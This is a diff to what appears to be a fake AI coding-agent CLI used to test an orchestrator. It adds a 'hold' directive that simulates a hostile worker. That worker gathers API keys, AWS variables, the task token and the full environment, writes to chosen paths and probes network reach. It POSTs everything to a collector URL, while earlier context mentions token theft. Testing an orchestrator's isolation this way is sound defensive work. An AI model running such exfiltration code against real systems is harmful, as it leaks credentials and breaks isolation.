@@ -57,6 +57,17 @@
 //                     $TASK_TOKEN (and $TASK_ID = job/task/attempt) to reach job JOB, the next task
 //                     and beyond; writes attack_results.json ([{name, method, path, status}]) and the
 //                     raw token to stolen_token.txt, then succeeds normally
+//   [[hold:LABEL]]    work run: a hostile-worker stand-in. It probes what it can reach (env secrets,
+//                     writes to each path in env HOSTILE_WRITE_TARGETS, TCP to each URL in env
+//                     HOSTILE_PROBE_URLS; both comma-separated), POSTs {label, token, task_id, api_url,
+//                     env, probes, cwd, pid} to $HOSTILE_COLLECTOR_URL/held, then long-polls
+//                     $HOSTILE_COLLECTOR_URL/release/LABEL until released (at most $HOSTILE_HOLD_MS,
+//                     default 60000) and finishes like a normal run, honouring the other directives.
+//                     Ignored in decide, plan and merge runs; without HOSTILE_COLLECTOR_URL it goes on at
+//                     once. LABEL is 1-64 letters, digits, `_`, `-` or `.`; the result text gains a line
+//                     `hold: released` (or `hold: gave up waiting`, `hold: collector unreachable (...)`).
+//   [[hold_plan:LABEL]]  the same in a plan run (one that asks for structured output and is neither a
+//                     decide nor a merge run); put it in the job's request. Ignored in other runs.
 //
 // Merge runs. A merge run is one whose prompt has the line ORCHESTRATOR-MERGE (checked before
 // ORCHESTRATOR-DECIDE). Its prompt quotes the workers' subtasks, so only [[resolve:MODE]],
@@ -82,6 +93,7 @@
 import { spawn } from 'node:child_process';
 import { createHash, randomUUID } from 'node:crypto';
 import fs from 'node:fs';
+import net from 'node:net';
 import os from 'node:os';
 import path from 'node:path';
 
@@ -101,6 +113,13 @@ const RESOLVE_MODES = ['both', 'ours', 'theirs', 'none'];
 const SPAWN_TIMEOUT_MS = 120_000;
 const SPAWN_CAPTURE_CHARS = 1_000_000;
 const ATTACK_TIMEOUT_MS = 5_000;
+const HOLD_DEFAULT_MS = 60_000;
+// one long poll of the collector; the whole hold is bounded by HOSTILE_HOLD_MS
+const HOLD_POLL_MS = 10_000;
+const PROBE_TIMEOUT_MS = 2_000;
+const HOLD_LABEL_RE = /^[A-Za-z0-9_.-]{1,64}$/;
+// what a stolen credential would look like in the session's environment
+const SECRET_ENV_RE = /^(ORCHESTRATOR_API_KEY|ANTHROPIC_API_KEY|ANTHROPIC_AUTH_TOKEN|AWS_.*)$/;
 const PERMISSION_MODES = ['acceptEdits', 'auto', 'bypassPermissions', 'default', 'dontAsk', 'plan'];
 const OUTPUT_FORMATS = ['text', 'json', 'stream-json'];
 const UUID_RE = /^[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}$/i;
@@ -348,7 +367,7 @@ function validate(opts) {
 // Directives
 
 const DIRECTIVE_SRC =
-  '\\[\\[(sleep|fail|fail_times|crash|hang|hang_hard|logged_out|cost|turns|files|plan|choose|garbage|split|split_child|split_all|decide_fail|spawn|attack|create|create_bytes|append|edit_line|delete|no_files|resolve|merge_fail)(?::([^\\]]*))?\\]\\]';
+  '\\[\\[(sleep|fail|fail_times|crash|hang|hang_hard|logged_out|cost|turns|files|plan|choose|garbage|split|split_child|split_all|decide_fail|spawn|attack|hold|hold_plan|create|create_bytes|append|edit_line|delete|no_files|resolve|merge_fail)(?::([^\\]]*))?\\]\\]';
 const DIRECTIVE_RE = new RegExp(DIRECTIVE_SRC, 'gi');
 // a run of markers with the blanks around them
 const DIRECTIVE_RUN_RE = new RegExp(`[ \\t]*(?:${DIRECTIVE_SRC}[ \\t]*)+`, 'gi');
@@ -373,6 +392,10 @@ function parseDirectives(text, into) {
       case 'spawn':
       case 'attack':
         if (value !== undefined) into[name] = value;
+        break;
+      case 'hold':
+      case 'hold_plan':
+        if (value !== undefined && HOLD_LABEL_RE.test(value.trim())) into[name] = value.trim();
         break;
       case 'create':
       case 'create_bytes':
@@ -1055,6 +1078,92 @@ async function runAttack(otherJob) {
   return results;
 }
 
+// The hostile-worker stand-in: report what this session can reach, then wait to be released.
+function listEnv(name) {
+  return (process.env[name] ?? '')
+    .split(',')
+    .map((s) => s.trim())
+    .filter(Boolean);
+}
+
+function tcpProbe(url) {
+  return new Promise((resolve) => {
+    let target;
+    try {
+      const u = new URL(url);
+      const port = Number(u.port) || (u.protocol === 'https:' ? 443 : 80);
+      target = { host: u.hostname.replace(/^\[|\]$/g, ''), port };
+    } catch (e) {
+      resolve({ url, connected: false, error: `bad url: ${e?.message ?? e}` });
+      return;
+    }
+    const socket = net.connect(target);
+    const done = (result) => {
+      socket.destroy();
+      resolve({ url, ...result });
+    };
+    socket.setTimeout(PROBE_TIMEOUT_MS, () => done({ connected: false, error: 'timeout' }));
+    socket.once('connect', () => done({ connected: true }));
+    socket.once('error', (e) => done({ connected: false, error: e.code ?? e.message }));
+  });
+}
+
+async function holdProbes() {
+  const secrets = {};
+  for (const [k, v] of Object.entries(process.env)) if (SECRET_ENV_RE.test(k) && v) secrets[k] = v;
+  const writes = listEnv('HOSTILE_WRITE_TARGETS').map((target) => {
+    try {
+      fs.mkdirSync(path.dirname(target), { recursive: true });
+      fs.writeFileSync(target, `written by hostile worker ${process.pid}\n`);
+      return { path: target, written: true };
+    } catch (e) {
+      return { path: target, written: false, error: e?.code ?? String(e?.message ?? e) };
+    }
+  });
+  const connections = await Promise.all(listEnv('HOSTILE_PROBE_URLS').map(tcpProbe));
+  return { secrets, writes, connections };
+}
+
+async function runHold(label) {
+  const collector = (process.env.HOSTILE_COLLECTOR_URL ?? '').replace(/\/+$/, '');
+  if (!collector) return 'hold: no collector';
+  const holdMs = Number.parseInt(process.env.HOSTILE_HOLD_MS ?? '', 10);
+  const deadline = Date.now() + (Number.isFinite(holdMs) && holdMs > 0 ? holdMs : HOLD_DEFAULT_MS);
+  const report = {
+    label,
+    token: process.env.TASK_TOKEN ?? null,
+    task_id: process.env.TASK_ID ?? null,
+    api_url: process.env.API_URL ?? null,
+    env: { ...process.env },
+    probes: await holdProbes(),
+    cwd: process.cwd(),
+    pid: process.pid,
+  };
+  try {
+    const res = await fetch(`${collector}/held`, {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify(report),
+      signal: AbortSignal.timeout(PROBE_TIMEOUT_MS * 2),
+    });
+    await res.text().catch(() => '');
+  } catch (e) {
+    return `hold: collector unreachable (${e?.message ?? e})`;
+  }
+  while (Date.now() < deadline) {
+    try {
+      const res = await fetch(`${collector}/release/${encodeURIComponent(label)}`, {
+        signal: AbortSignal.timeout(Math.max(1, Math.min(HOLD_POLL_MS, deadline - Date.now()))),
+      });
+      if (res.status === 200 && (await res.text()) === 'released') return 'hold: released';
+    } catch {
+      // a poll that timed out: ask again until the deadline
+    }
+    if (Date.now() < deadline) await sleep(Math.min(200, deadline - Date.now()));
+  }
+  return 'hold: gave up waiting';
+}
+
 // ---------------------------------------------------------------------------------------------
 // Main
 
@@ -1138,6 +1247,10 @@ async function main() {
   }
 
   if (d.sleep) await sleep(d.sleep);
+
+  // A plan run is the one that asks for structured output without being a decide or merge run.
+  const holdLabel = decide || merge ? undefined : opts.schema ? d.hold_plan : d.hold;
+  const holdNote = holdLabel !== undefined ? await runHold(holdLabel) : undefined;
 
   if (d.crash && !decide) {
     process.stdout.write('{"type":"res');
@@ -1242,6 +1355,7 @@ async function main() {
       const calls = await runAttack(d.attack);
       extra.push(`attack: ${calls.map((c) => `${c.name} ${c.status ?? c.error}`).join(', ')}`);
     }
+    if (holdNote !== undefined) extra.push(holdNote);
     writeWorkFiles(d, ctx);
     if (opts.schema) structured = generate(opts.schema, undefined, ctx);
     if (extra.length) resultText = [resultText, ...extra].join('\n');
